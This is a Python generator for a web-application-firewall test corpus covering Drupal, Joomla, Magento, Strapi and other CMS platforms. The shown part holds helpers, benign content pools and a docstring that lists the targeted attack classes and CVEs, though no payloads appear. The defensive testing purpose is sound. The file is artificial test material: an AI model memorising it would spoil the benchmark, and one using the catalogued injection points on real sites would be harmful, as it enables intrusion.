#!/usr/bin/env python3
"""Held-out HTTP test corpus: the non-WordPress CMS ecosystem.

What it is
    A deterministic generator (random.Random with a fixed seed) of realistic
    HTTP requests against CMS sites and headless content platforms other than
    WordPress, as they look on the wire: Drupal (JSON:API with filter[...] and
    include=, node edit forms with form_build_id / form_token and CKEditor 5
    HTML bodies, Views AJAX, media library uploads, image style derivatives
    with ?itok=, Webform submissions, menu and redirect admin, metatag tokens,
    cron), Joomla (com_content, com_users login with base64 return=, com_finder
    search, administrator/index.php task= saves with jform[...] fields,
    list[fullordering], the v4 Web Services API), Magento 2 / Adobe Commerce
    (REST /rest/V1 with searchCriteria[filter_groups][0][filters][0][value],
    guest-cart estimate-shipping-methods, GraphQL, admin UI-component grids,
    add-to-cart, reviews), Shopify-style app proxies and webhooks, Ghost
    (Admin API with html / lexical / mobiledoc JSON, Content API NQL filters,
    members), Strapi and Directus (filters[title][$containsi]=, populate=,
    deep=, $NOW, JSON filter objects, uploads, imports), Craft CMS (actions/
    routes, CRAFT_CSRF_TOKEN, hashed redirect values, SEOmatic Twig-ish
    fields), TYPO3 (cHash, tx_news, backend record commits, form framework),
    Umbraco, Sitecore (media hashes, JSS layout service), Concrete CMS,
    Contentful / Sanity webhooks and GROQ queries with $-parameters,
    Decap/Netlify CMS git-gateway, plus editors posting real HTML (tables,
    YouTube / Vimeo / Google Maps iframes, inline styles), Markdown, content
    in many languages, SEO meta fields, redirect managers, menu builders,
    form-builder submissions, search pages, sitemaps and feeds.

    * benign       ~450 ordinary requests (expect "pass"), including the hard
                   cases a naive WAF trips on: HTML bodies, prose with SQL
                   words ("select the option", "drop us a line", "union
                   members"), O'Brien-style apostrophes, LIKE wildcards in
                   Magento searchCriteria, Strapi $or / $containsi operators,
                   Directus $NOW, Sanity $slug parameters, JSON Schema $ref,
                   metatag [node:title] tokens, Joomla image values with
                   #joomlaImage:// URLs, TYPO3 serialized __trustedProperties;
                   plus ~50 "dev-content" requests (category "dev-content",
                   still "pass"): developers posting PHP / Twig / Liquid /
                   Handlebars / SQL / shell / YAML / nginx snippets to
                   forums, docs and support endpoints; counted apart.
    * attacks      ~315 requests (expect "detect") built on the CMS's real
                   injection points and real attack classes: Drupalgeddon 1
                   (name[0 ;...] SQLi), Drupalgeddon 2/3 (#post_render,
                   #lazy_builder, #markup in form arrays), Drupal REST
                   unserialize (CVE-2019-6340), Joomla com_fields and
                   com_contenthistory SQLi, Joomla session object injection,
                   Magento searchCriteria / product_frontend_action SQLi,
                   Shoplift, CosmicSting XXE (CVE-2024-34102 via sourceData),
                   Magento email-template SSTI (CVE-2022-24086), Craft CMS
                   CVE-2023-41892 (FnStream / Imagick MSL), Strapi plugin-
                   install RCE and email-template SSTI, Strapi / Directus /
                   Payload filter-operator abuse, Twig / Liquid / Handlebars /
                   FreeMarker / Velocity / Razor / Smarty / Jinja SSTI,
                   stored XSS in bodies, menu titles, SEO fields, translations
                   and SVG uploads, path traversal in image styles, derivatives
                   and download parameters, PHAR deserialization, SSRF in
                   oEmbed / remote media / webhook / import URLs, open
                   redirects, CRLF, request smuggling, scanners and probes.
                   Encodings vary (percent, double percent, JSON \\u escapes,
                   HTML entities, mixed case, comments) as real attackers do.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-cms.py attacks > rulesets/tests/data/cms-attacks.jsonl
    python3 scripts/corpus-cms.py benign  > rulesets/tests/data/cms-benign.jsonl
    python3 scripts/corpus-cms.py stats

Output
    One JSON object per line:
      {"id": "cms/<category>/<subgroup>-NNN", "set": "cms",
       "category": "sqli" | ... | "benign" | "dev-content",
       "expect": "detect" | "pass", "method": ..., "uri": ...,
       "version": "HTTP/1.1", "headers": [[name, value], ...], "body"?: ...}
    or, where the exact bytes matter (binary uploads, raw smuggling), the
    whole request base64'd:
      {"id": ..., "set": "cms", "category": ..., "expect": ..., "raw_b64": ...}

First sight
    `pr-now eval` with the built-in rules at paranoia 1, threshold 5, on the
    first generated outputs (nothing was tuned afterwards):
      attacks      296 / 316 detected (93.7%): sqli 47/47, xss 49/49,
                   php 23/23, ssrf 17/17, xxe 11/11, rfi 10/10, java 10/10,
                   crlf 8/8, ldap 6/6, lfi 26/27, rce 25/27, ssti 21/22,
                   protocol 13/14, scanner 19/20, nosqli 7/11, generic 4/14
                   (missed: all 8 open redirects, mass assignment, Joomla
                   CVE-2023-23752, Strapi/Directus/Payload relation-filter
                   leaks, GROQ injection, TYPO3 jumpurl, the Drupalgeddon 2
                   D7 second stage, Craft Imagick-MSL multipart, a Liquid
                   data leak, Host-header reset poisoning, droopescan)
      benign       2 / 464 flagged (0.4%): YouTube iframes in a Magento
                   product description and in a Ghost lexical embed card
      dev-content  19 / 50 flagged (38.0%)
"""

import base64
import json
import random
import sys
import urllib.parse

SEED = 0xC5A11
R = random.Random(SEED)

ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
B64URL = ALNUM + "-_"
HEX = "0123456789abcdef"


def tok(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def hexs(n):
    return tok(n, HEX)


def uuid4():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def pick(seq):
    return R.choice(seq)


# ---------------------------------------------------------------- encoding

def qp(s):
    """application/x-www-form-urlencoded value (space -> +)."""
    return urllib.parse.quote_plus(str(s), safe="")


def qpct(s, safe="-_.~"):
    """RFC 3986 percent-encoding (space -> %20), as fetch()/axios send."""
    return urllib.parse.quote(str(s), safe=safe)


def form(pairs, raw_keys=False):
    """Encode pairs as a form body / query string. raw_keys leaves [ ] $ in keys."""
    out = []
    for k, v in pairs:
        kk = k.replace(" ", "+") if raw_keys else qp(k)
        out.append(kk + "=" + qp(v))
    return "&".join(out)


def jdump(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def jdump_pretty(obj):
    return json.dumps(obj, ensure_ascii=False)


# ---------------------------------------------------------------- clients

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.113 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
]

LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.7",
         "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9,en-US;q=0.8", "ja-JP,ja;q=0.9",
         "pt-BR,pt;q=0.9,en;q=0.8", "it-IT,it;q=0.9", "sv-SE,sv;q=0.9,en;q=0.8"]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"
ACCEPT_IMG = "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"

HOSTS = {
    "drupal": ["www.cityofmarston.gov.example", "news.riverdale-uni.example", "www.greenleaf-foundation.example", "intranet.hollis-law.example"],
    "joomla": ["www.alpenverein-sektion.example", "www.parish-stmarys.example", "www.oakridge-scouts.example", "club.tennis-lindau.example"],
    "magento": ["shop.nordicwool.example", "www.brightkitchen.example", "store.trailgear.example", "www.papeterie-lumiere.example"],
    "shopify": ["acme-outfitters.myshopify.com", "little-pine-candles.myshopify.com", "studio-kiln.myshopify.com"],
    "ghost": ["blog.quietbytes.example", "newsletter.fieldnotes.example", "www.slowcraft.example"],
    "strapi": ["cms.marketing-site.example", "api.portfolio-studio.example", "content.eventhub.example"],
    "directus": ["data.museum-archive.example", "admin.foodtruck-co.example", "directus.cityguide.example"],
    "craft": ["www.harbourarchitects.example", "www.bluepeak-brewing.example", "www.linden-gallery.example"],
    "typo3": ["www.stadtwerke-felsberg.example", "www.hochschule-auental.example", "www.museum-kirchberg.example"],
    "umbraco": ["www.northsea-ferries.example", "www.vandijk-advocaten.example", "www.healthtrust-nhs.example"],
    "sitecore": ["www.globalinsure.example", "www.airline-contoso.example", "www.carmaker-fabrikam.example"],
    "concrete": ["www.lakeside-dental.example", "www.stonebridge-council.example"],
    "contentful": ["www.launchpad-saas.example", "preview.launchpad-saas.example"],
    "sanity": ["www.printmakers-guild.example", "studio.printmakers-guild.example"],
    "netlify": ["docs.openfield.example", "www.jamstack-bakery.example"],
    "aem": ["www.bigbank-corp.example", "author.bigbank-corp.example"],
    "liferay": ["portal.uni-nordheim.example", "intranet.stahlwerk.example"],
    "node": ["www.apostrophe-agency.example", "cms.keystone-demo.example", "payload.outdoorclub.example"],
}


def host(cms):
    return pick(HOSTS[cms])


def browser(h, accept=ACCEPT_HTML, referer=None, cookie=None, extra=None, ua=None):
    hd = [["Host", h], ["User-Agent", ua or pick(UA_BROWSERS)], ["Accept", accept],
          ["Accept-Language", pick(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if referer:
        hd.append(["Referer", referer])
    if cookie:
        hd.append(["Cookie", cookie])
    for kv in extra or []:
        hd.append(list(kv))
    return hd


def api(h, ua, ctype=None, auth=None, accept=ACCEPT_JSON, extra=None):
    hd = [["Host", h], ["User-Agent", ua], ["Accept", accept]]
    if auth:
        hd.append(["Authorization", auth])
    if ctype:
        hd.append(["Content-Type", ctype])
    for kv in extra or []:
        hd.append(list(kv))
    return hd


# session cookies per CMS
def ck_drupal():
    return "SSESS%s=%s" % (hexs(32), tok(43, B64URL))


def ck_joomla():
    return "%s=%s" % (hexs(32), tok(26, "abcdefghijklmnopqrstuv0123456789"))


def ck_magento():
    return "PHPSESSID=%s; form_key=%s; mage-cache-storage={}; mage-cache-sessid=true; private_content_version=%s" % (
        tok(26, "abcdefghijklmnopqrstuv0123456789"), tok(16), hexs(32))


def ck_craft():
    return "CraftSessionId=%s; CRAFT_CSRF_TOKEN=%s" % (tok(26, "abcdefghijklmnopqrstuv0123456789"), hexs(64) + tok(40, B64URL))


def ck_typo3(be=False):
    name = "be_typo_user" if be else "fe_typo_user"
    return "%s=%s" % (name, hexs(32) + "." + hexs(64))


def ck_umbraco():
    return "UMB_UCONTEXT=%s; UMB-XSRF-TOKEN=%s" % (tok(120, B64URL), tok(100, B64URL))


def ck_ghost():
    return "ghost-admin-api-session=s%%3A%s.%s" % (tok(32, B64URL), tok(43, B64URL))


def form_build_id():
    return "form-" + tok(43, B64URL)


def form_token():
    return tok(43, B64URL)


def itok():
    return tok(8, B64URL)


def jwt_like():
    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').rstrip(b"=").decode()
    body = base64.urlsafe_b64encode(jdump({"sub": R.randint(1, 400), "iat": 1717000000 + R.randint(0, 9000000)}).encode()).rstrip(b"=").decode()
    return "%s.%s.%s" % (head, body, tok(43, B64URL))


# ---------------------------------------------------------------- binary bits

def fake_jpeg(n=None):
    n = n or R.randint(180, 520)
    body = bytes(R.randrange(256) for _ in range(n))
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00\xff\xdb\x00C\x00" + body + b"\xff\xd9"


def fake_png(n=None):
    n = n or R.randint(160, 480)
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x02\x80\x00\x00\x01\xe0\x08\x06\x00\x00\x00"
            + bytes(R.randrange(256) for _ in range(4)) + b"\x00\x00\x00\x00IDAT"
            + bytes(R.randrange(256) for _ in range(n)) + b"\x00\x00\x00\x00IEND\xaeB`\x82")


def multipart(parts, boundary=None, style="webkit"):
    """parts: (name, value, filename=None, ctype=None). Returns (content_type, bytes)."""
    if boundary is None:
        if style == "webkit":
            boundary = "----WebKitFormBoundary" + tok(16)
        elif style == "firefox":
            boundary = "---------------------------" + "".join(R.choice("0123456789") for _ in range(29))
        else:
            boundary = "--------------------------" + "".join(R.choice("0123456789") for _ in range(24))
    out = b""
    for p in parts:
        name, value = p[0], p[1]
        filename = p[2] if len(p) > 2 else None
        ctype = p[3] if len(p) > 3 else None
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        out += ("--%s\r\n%s\r\n" % (boundary, disp)).encode("utf-8")
        if ctype:
            out += ("Content-Type: %s\r\n" % ctype).encode()
        out += b"\r\n"
        out += value if isinstance(value, bytes) else value.encode("utf-8")
        out += b"\r\n"
    out += ("--%s--\r\n" % boundary).encode()
    return "multipart/form-data; boundary=" + boundary, out


# ---------------------------------------------------------------- collector

class Corpus:
    def __init__(self):
        self.items = []
        self.counters = {}
        self.seen = set()
        self.dups = 0

    def _id(self, category, sub):
        key = (category, sub)
        self.counters[key] = self.counters.get(key, 0) + 1
        return "cms/%s/%s-%03d" % (category, sub, self.counters[key])

    def add(self, category, sub, expect, method, uri, headers, body=None, strict=False):
        if isinstance(body, bytes):
            try:
                body = body.decode("utf-8")
            except UnicodeDecodeError:
                return self.add_raw(category, sub, expect, method, uri, headers, body, strict)
        dkey = (method, uri, body)
        if strict:  # header-borne attacks share a request line; tell them apart by headers
            dkey = dkey + (tuple((h[0], h[1]) for h in headers if h[0] not in ("Host", "User-Agent", "Accept-Language", "Cookie")),)
        if dkey in self.seen:
            self.dups += 1
            if strict:
                raise SystemExit("duplicate attack request: %s %s" % (method, uri[:120]))
            return False
        self.seen.add(dkey)
        headers = [list(h) for h in headers]
        if body is not None and not any(h[0].lower() in ("content-length", "transfer-encoding") for h in headers):
            headers.append(["Content-Length", str(len(body.encode("utf-8")))])
        obj = {"id": self._id(category, sub), "set": "cms", "category": category, "expect": expect,
               "method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers}
        if body is not None:
            obj["body"] = body
        self.items.append(obj)
        return True

    def add_raw(self, category, sub, expect, method, uri, headers, body_bytes, strict=False, raw_head=None):
        """Exact bytes. headers get a correct Content-Length unless one is given."""
        if raw_head is not None:
            raw = raw_head + (body_bytes or b"")
        else:
            headers = [list(h) for h in headers]
            if body_bytes is not None and not any(h[0].lower() in ("content-length", "transfer-encoding") for h in headers):
                headers.append(["Content-Length", str(len(body_bytes))])
            head = "%s %s HTTP/1.1\r\n" % (method, uri) + "".join("%s: %s\r\n" % (k, v) for k, v in headers) + "\r\n"
            raw = head.encode("utf-8") + (body_bytes or b"")
        dkey = ("raw", raw)
        if dkey in self.seen:
            self.dups += 1
            if strict:
                raise SystemExit("duplicate raw attack request")
            return False
        self.seen.add(dkey)
        obj = {"id": self._id(category, sub), "set": "cms", "category": category, "expect": expect,
               "raw_b64": base64.b64encode(raw).decode()}
        self.items.append(obj)
        return True


def fill(n, fn, max_tries=None):
    """Call fn() until it has added n requests (fn returns True when it added one)."""
    added = 0
    tries = 0
    max_tries = max_tries or n * 40
    while added < n and tries < max_tries:
        tries += 1
        if fn():
            added += 1
    return added


# =====================================================================
# Benign content pools
# =====================================================================

NAMES = ["Siobhan O'Brien", "Patrick O'Connor-Smith", "D'Arcy Fitzgerald", "Zoë Müller", "Łukasz Wiśniewski",
         "Nguyễn Thị Hoa", "José Ángel García", "Renée Lefèvre", "Kwame Mensah", "Aoife Ní Bhriain",
         "Miriam Ben-David", "Søren Kjærgaard", "Ahmad Al-Masri", "Hannah Schröder", "Giulia D'Angelo",
         "Mary-Kate O'Neill", "Björn Åkesson", "Chidi Okafor", "Yuki Tanaka", "Anaïs Dubois",
         "Tomás Ó Súilleabháin", "Priya Raghunathan", "Jean-Baptiste N'Diaye", "Ola Nordmann"]

EMAILS_DOM = ["gmail.com", "outlook.com", "posteo.de", "proton.me", "yahoo.co.uk", "web.de", "icloud.com", "fastmail.com"]


def person():
    n = pick(NAMES)
    first = n.split()[0].lower().replace("'", "")
    last = n.split()[-1].lower().replace("'", "")
    asc = (first + "." + last).encode("ascii", "ignore").decode()
    return n, "%s@%s" % (asc or "member", pick(EMAILS_DOM))


PROSE = [
    "Please select the option that best describes your organisation before you continue.",
    "Drop us a line if you have any questions about the event, we're happy to help.",
    "Union members get a 15% discount on all weekend courses – just bring your card.",
    "Insert the new cartridge into slot B, then delete the old filter from the app.",
    "The table of contents is generated from the H2 and H3 headings on this page.",
    "We're going to drop the old newsletter format and create a new one where you can select topics.",
    "Where and when: Saturday 14 June, 10am – 4pm, Town Hall (upstairs, room 2).",
    "It's 5' 11\" tall and weighs about 12 lbs, so it fits in most car boots.",
    "Order by 3pm for same-day dispatch; anything placed after that ships the next working day.",
    "Use the 'Select all' checkbox, then click Delete to remove old drafts in one go.",
    "The exec committee will update the by-laws and drop section 4 at the AGM.",
    "Grant applications from union branches must be submitted by 30 March.",
    "We had to truncate the speaker list to 50 names – sorry if you didn't make it!",
    "Fill in the form, then hit Submit; we'll be in touch within two working days.",
    "Price: £19.99 (was £24.99) — that's 20% off until Sunday.",
    "Script-writing workshop for beginners: bring a pen, paper and an open mind.",
    "Rock 'n' roll night at the members' bar, doors open 7:30pm.",
    "Our kids' club runs from 9 to 12 every weekday during the summer holidays.",
    "Tip: press Ctrl + F and type the name of the course to find it quickly.",
    "If the page doesn't load, try clearing your browser's cache and cookies.",
    "Join us for a talk on the history of the trade union movement in the valley.",
    "You can update or delete your account at any time from the 'My profile' page.",
    "Alert: the car park on Mill Lane will be closed from 1 to 3 July for resurfacing.",
    "Sign-ups close at midnight; late entries can't be accepted, I'm afraid.",
    "Choose 'Either/or' if you're happy with both dates — we'll confirm by e-mail.",
    "Table tennis, chess and bridge: all welcome, no booking required.",
    "He said: \"It's the best fish & chips I've had since '98.\"",
    "Water pressure drops between 2am and 5am while we flush the mains — no action needed.",
    "Select committee hearing on local transport, live-streamed from 10:00 GMT.",
    "Refunds are processed within 5–7 days; contact us if it's taking longer.",
]

TITLES = ["Summer festival 2024: programme and tickets", "New opening hours at the library", "Union members' AGM – agenda",
          "How to choose the right hiking boots", "Five things we learned from our first pop-up", "Volunteers wanted for the beach clean",
          "Road closures on Station Road", "Meet the team: Siobhan O'Brien", "Why we're dropping single-use plastics",
          "Recipe: Grandma's apple & cinnamon cake", "Board meeting minutes – 12 March", "Press release: new science building opens",
          "Q&A with the head chef", "Annual report 2023 (PDF, 2.4 MB)", "Call for papers: Digital Humanities Day",
          "Select your seats for the autumn season", "What's on this weekend?", "Update on the bin collection schedule",
          "Caf\u00e9 reopens after renovation", "10% off for NHS staff \u2013 this month only", "Spring/Summer lookbook",
          "Join the union of student societies", "Where to eat near the station", "Drop-in sessions for new parents"]


def slugify(t):
    out = []
    for ch in t.lower():
        if ch.isascii() and ch.isalnum():
            out.append(ch)
        elif out and out[-1] != "-":
            out.append("-")
    return "".join(out).strip("-")[:60]


YOUTUBE_IDS = ["dQw4w9WgXcQ", "M7lc1UVf-VE", "aqz-KE-bpKQ", "ScMzIvxBSi4", "jNQXAC9IVRw", "9bZkp7q19f0", "kJQP7kiw5Fk", "LXb3EKWsInQ"]


def html_youtube():
    vid = pick(YOUTUBE_IDS)
    return ('<iframe width="560" height="315" src="https://www.youtube.com/embed/%s?si=%s" title="YouTube video player" '
            'frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" '
            'referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>' % (vid, tok(16, B64URL)))


def html_maps():
    lat = "%.4f" % R.uniform(40.0, 58.0)
    lon = "%.4f" % R.uniform(-8.0, 16.0)
    return ('<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2482.%d!2d%s!3d%s!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1!3m3!1m2!1s0x0%%3A0x%s!2s!5e0!3m2!1sen!2suk!4v17%s" '
            'width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>'
            % (R.randint(100, 999), lon, lat, hexs(16), "".join(R.choice("0123456789") for _ in range(11))))


def html_vimeo():
    return ('<div style="padding:56.25%% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/%d?h=%s&amp;badge=0&amp;autopause=0&amp;player_id=0&amp;app_id=58479" '
            'frameborder="0" allow="autoplay; fullscreen; picture-in-picture; clipboard-write" style="position:absolute;top:0;left:0;width:100%%;height:100%%;" title="Studio tour"></iframe></div>'
            % (R.randint(70000000, 999999999), hexs(10)))


def html_table():
    rows = []
    for d, t, p in [("Mon", "Yoga for beginners", "£6"), ("Wed", "Union members' swim", "free"), ("Thu", "Drop-in chess", "£2"),
                    ("Sat", "Family cinema: 'Paddington'", "£4"), ("Sun", "Select choir rehearsal", "—")][: R.randint(3, 5)]:
        rows.append('<tr><td style="padding:4px 8px;border:1px solid #ccc;">%s</td><td style="padding:4px 8px;border:1px solid #ccc;">%s</td>'
                    '<td style="text-align:right;padding:4px 8px;border:1px solid #ccc;">%s</td></tr>' % (d, t.replace("'", "&#039;") if R.random() < 0.5 else t, p))
    return ('<table class="table table-striped" style="width:100%%;border-collapse:collapse;"><caption>Weekly timetable</caption>'
            '<thead><tr><th scope="col">Day</th><th scope="col">Activity</th><th scope="col">Price</th></tr></thead><tbody>%s</tbody></table>' % "".join(rows))


def html_figure(cms="drupal"):
    fname = pick(["harbour-at-dusk", "team-photo-2024", "new-library-entrance", "market-stalls", "lecture-hall", "kiln-opening"]) + pick([".jpg", ".jpeg", ".png", ".webp"])
    if cms == "drupal":
        return ('<figure class="image"><img src="/sites/default/files/inline-images/%s" data-entity-uuid="%s" data-entity-type="file" '
                'alt="%s" width="1200" height="800" loading="lazy"><figcaption>Photo: %s</figcaption></figure>'
                % (fname, uuid4(), pick(["Boats in the harbour at dusk", "The team outside the office", "People at the market"]), pick(NAMES)))
    return '<p><img src="/images/2024/%s" alt="" style="float:right;margin:0 0 1em 1em;width:40%%;"></p>' % fname


def html_drupal_media():
    return '<drupal-media data-align="center" data-entity-type="media" data-entity-uuid="%s" data-view-mode="%s"></drupal-media>' % (uuid4(), pick(["default", "wide", "thumbnail"]))


def html_paragraphs(n=None):
    n = n or R.randint(2, 4)
    ps = R.sample(PROSE, n)
    out = []
    for p in ps:
        style = R.random()
        if style < 0.2:
            out.append('<p style="text-align:center;"><strong>%s</strong></p>' % p)
        elif style < 0.35:
            out.append('<p><span style="color:#e03e2d;font-family:Georgia, serif;">%s</span></p>' % p)
        elif style < 0.5:
            out.append('<p>%s <a href="https://%s/contact">Contact us</a> or email <a href="mailto:info@%s">info@%s</a>.</p>' % (p, "www.example.org", "example.org", "example.org"))
        else:
            out.append("<p>%s</p>" % p)
    return "".join(out)


def rich_html(cms="drupal"):
    parts = [html_paragraphs()]
    extras = [html_table, html_youtube, html_maps, html_vimeo, lambda: html_figure(cms),
              lambda: "<h2>Getting there</h2><ul><li>Bus 42 or 7 to Market Square</li><li>Parking on Mill Lane (pay &amp; display)</li><li>Step-free access via the side entrance</li></ul>",
              lambda: '<blockquote><p>"The best day out we\'ve had all year."</p><cite>— %s</cite></blockquote>' % pick(NAMES),
              lambda: '<details><summary>Accessibility information</summary><p>Hearing loop at reception; large-print programmes on request.</p></details>',
              lambda: '<ol start="3"><li>Select the date.</li><li>Choose your tickets.</li><li>Pay by card or PayPal.</li></ol>',
              lambda: '<p class="text-align-right"><a class="button button--primary" href="/events/summer-festival/tickets" target="_blank" rel="noopener noreferrer">Book now &raquo;</a></p>',
              lambda: '<hr><p><small>Last updated %d %s 2024. Corrections: <a href="mailto:editor@example.org?subject=Correction">editor@example.org</a></small></p>' % (R.randint(1, 28), pick(["May", "June", "July"]))]
    if cms == "drupal":
        extras.append(html_drupal_media)
    for f in R.sample(extras, R.randint(1, 3)):
        parts.append(f())
    R.shuffle(parts)
    return "".join(parts)


MARKDOWN = [
    "## Opening hours\n\n| Day | Hours |\n|-----|-------|\n| Mon–Fri | 9:00–17:30 |\n| Sat | 10:00–14:00 |\n\nClosed on bank holidays. *Drop us a line* if you need an appointment outside these times.\n",
    "# Packing list for the hut-to-hut tour\n\n- [x] Sleeping bag liner (required in all huts)\n- [ ] Headtorch\n- [ ] Cash – most huts don't take cards!\n\n> Tip: select a rucksack of 30–35 l, not more.\n\nSee the [route map](https://www.openstreetmap.org/relation/%d) for details.\n" % 1000000,
    "We've moved! Our new address is **12 O'Connell Street**, Dublin 1.\n\n![The new shop front](/uploads/shopfront_%s.jpg \"Shop front\")\n\nParking: use the *Union Quay* car park and select the 'Retail' tariff.\n" % hexs(6),
    "### Release notes 2.4\n\n1. You can now drop files straight onto the upload area.\n2. The *Select* dropdown remembers your last choice.\n3. Fixed: titles with apostrophes (e.g. `Kid's Corner`) were cut off.\n\nThanks to everyone who reported bugs on the forum!\n",
    "Our recipe for **brown bread**:\n\n* 500 g wholemeal flour\n* 1 tsp bread soda\n* 400 ml buttermilk\n\nMix, shape, cut a cross on top & bake at 200 °C for 40 min. Where it says \"or\" – use whichever you have.\n",
    "## FAQ\n\n**Can I change my order?**  \nYes — from *My account → Orders*, select the order and click **Update**.\n\n**Do you ship to the Channel Islands?**  \nWe do, but customs forms apply.[^1]\n\n[^1]: See https://www.gov.uk/guidance/sending-goods-to-the-channel-islands\n",
    "Volunteer rota (June)\n\n```\nSat 01  Aoife, Kwame\nSat 08  Zoë, Patrick\nSat 15  (open)\n```\n\nReply to this post or message `@events-team` to grab a slot.\n",
    "> \"Union is strength\" – the motto on our 1912 banner.\n\nThe banner goes on display in the **members' lounge** from Monday. Photos by _Tomás Ó Súilleabháin_.\n",
]

TRANSLATIONS = [
    ("de", "Sommerfest 2024: Programm und Tickets", "<p>Wir freuen uns auf Ihren Besuch! Bitte wählen Sie die gewünschte Option aus und schreiben Sie uns bei Fragen eine Nachricht.</p>"),
    ("fr", "Fête d'été 2024 : programme et billets", "<p>L'entrée est gratuite pour les membres de l'union. N'hésitez pas à nous écrire si vous avez des questions.</p>"),
    ("es", "Fiesta de verano 2024: programa y entradas", "<p>Selecciona la opción que prefieras; los socios del sindicato tienen un 15 % de descuento.</p>"),
    ("it", "Festa d'estate 2024: programma e biglietti", "<p>L'ingresso è gratuito per i soci. Scrivici per qualsiasi domanda sull'evento.</p>"),
    ("pl", "Festyn letni 2024: program i bilety", "<p>Wybierz odpowiednią opcję z listy. Członkowie związku mają zniżkę 15%.</p>"),
    ("nl", "Zomerfeest 2024: programma en kaartjes", "<p>Selecteer de optie die het beste bij je past en laat het ons weten als je vragen hebt.</p>"),
    ("pt-br", "Festa de verão 2024: programação e ingressos", "<p>Selecione a opção desejada. Sócios do sindicato têm 15% de desconto.</p>"),
    ("ru", "Летний фестиваль 2024: программа и билеты", "<p>Выберите подходящий вариант и напишите нам, если у вас есть вопросы.</p>"),
    ("uk", "Літній фестиваль 2024: програма та квитки", "<p>Оберіть потрібний варіант. Члени профспілки мають знижку 15%.</p>"),
    ("el", "Καλοκαιρινό φεστιβάλ 2024: πρόγραμμα και εισιτήρια", "<p>Επιλέξτε την επιλογή που σας ταιριάζει και στείλτε μας μήνυμα.</p>"),
    ("tr", "Yaz Festivali 2024: program ve biletler", "<p>Size uygun seçeneği seçin; sendika üyelerine %15 indirim.</p>"),
    ("ar", "مهرجان الصيف 2024: البرنامج والتذاكر", "<p>اختر الخيار المناسب لك، وراسلنا إذا كانت لديك أي أسئلة.</p>"),
    ("he", "פסטיבל הקיץ 2024: תוכנית וכרטיסים", "<p>בחרו את האפשרות המתאימה לכם וכתבו לנו אם יש שאלות.</p>"),
    ("hi", "ग्रीष्म उत्सव 2024: कार्यक्रम और टिकट", "<p>अपना विकल्प चुनें और कोई प्रश्न हो तो हमें लिखें।</p>"),
    ("ja", "サマーフェスティバル2024：プログラムとチケット", "<p>ご希望のオプションを選択してください。ご質問はお気軽にどうぞ。</p>"),
    ("zh-hans", "2024夏日节：节目和门票", "<p>请选择适合您的选项，如有疑问请给我们留言。工会会员享受八五折。</p>"),
    ("ko", "2024 여름 축제: 프로그램 및 티켓", "<p>원하는 옵션을 선택하세요. 노조 조합원은 15% 할인됩니다.</p>"),
    ("th", "เทศกาลฤดูร้อน 2024: กำหนดการและบัตร", "<p>เลือกตัวเลือกที่เหมาะกับคุณ และติดต่อเราหากมีคำถาม</p>"),
    ("vi", "Lễ hội mùa hè 2024: chương trình và vé", "<p>Hãy chọn tùy chọn phù hợp; đoàn viên công đoàn được giảm 15%.</p>"),
    ("sv", "Sommarfest 2024: program och biljetter", "<p>Välj det alternativ som passar dig och hör av dig om du har frågor.</p>"),
    ("cy", "Gŵyl yr Haf 2024: rhaglen a thocynnau", "<p>Dewiswch yr opsiwn sy'n addas i chi ac anfonwch neges atom.</p>"),
    ("ga", "Féile an tSamhraidh 2024: clár agus ticéid", "<p>Roghnaigh an rogha is fearr leat agus scríobh chugainn má tá ceist agat.</p>"),
]

